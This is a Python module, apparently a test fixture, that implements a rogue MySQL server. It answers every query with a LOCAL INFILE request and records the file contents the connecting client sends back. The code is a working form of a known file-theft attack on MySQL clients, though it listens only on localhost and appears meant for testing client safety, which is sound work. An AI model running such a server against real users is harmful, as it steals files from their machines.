"""A MySQL server that answers every statement by asking the client for one of its files.

No real server can be made to do it; the protocol lets any.
https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_com_query_response_local_infile_request.html
"""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from typing import Self

_SALT = b"12345678" + b"901234567890"
_ALL_BUT_TLS = 0xFFFFFFFF & ~0x800
_OK = b"\0\0\0\2\0\0\0"
_QUERY = b"\x03"


class RogueServer:
    """Asks whoever connects for the file at `path`; `received` is what it was sent."""

    def __init__(self, path: str) -> None:
        self.path = path.encode()
        self.asked = 0
        self.received = b""
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])

    def __enter__(self) -> Self:
        threading.Thread(target=self._accept, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                threading.Thread(target=self._serve, args=[connection], daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with suppress(OSError), connection, connection.makefile("rb") as stream:
            _send(connection, 0, _greeting())
            number, _ = _packet(stream)
            _send(connection, number + 1, _OK)
            while True:
                _, command = _packet(stream)
                if command[:1] != _QUERY:
                    _send(connection, 1, _OK)
                    continue
                self.asked += 1
                _send(connection, 1, b"\xfb" + self.path)
                number, data = _packet(stream)
                while data:
                    self.received += data
                    number, data = _packet(stream)
                _send(connection, number + 1, _OK)


def _greeting() -> bytes:
    low, high = _ALL_BUT_TLS.to_bytes(4, "little")[:2], _ALL_BUT_TLS.to_bytes(4, "little")[2:]
    return (
        b"\x0a8.0.30\0" + (7).to_bytes(4, "little") + _SALT[:8] + b"\0" + low + b"\x21\2\0" + high
        + b"\x15" + bytes(10) + _SALT[8:] + b"\0mysql_native_password\0"
    )  # fmt: skip


def _send(connection: socket.socket, number: int, data: bytes) -> None:
    connection.sendall(len(data).to_bytes(3, "little") + bytes([number % 256]) + data)


def _packet(stream: object) -> tuple[int, bytes]:
    head = stream.read(4)  # type: ignore[attr-defined]
    if len(head) < 4:
        raise OSError
    return head[3], stream.read(int.from_bytes(head[:3], "little"))  # type: ignore[attr-defined]
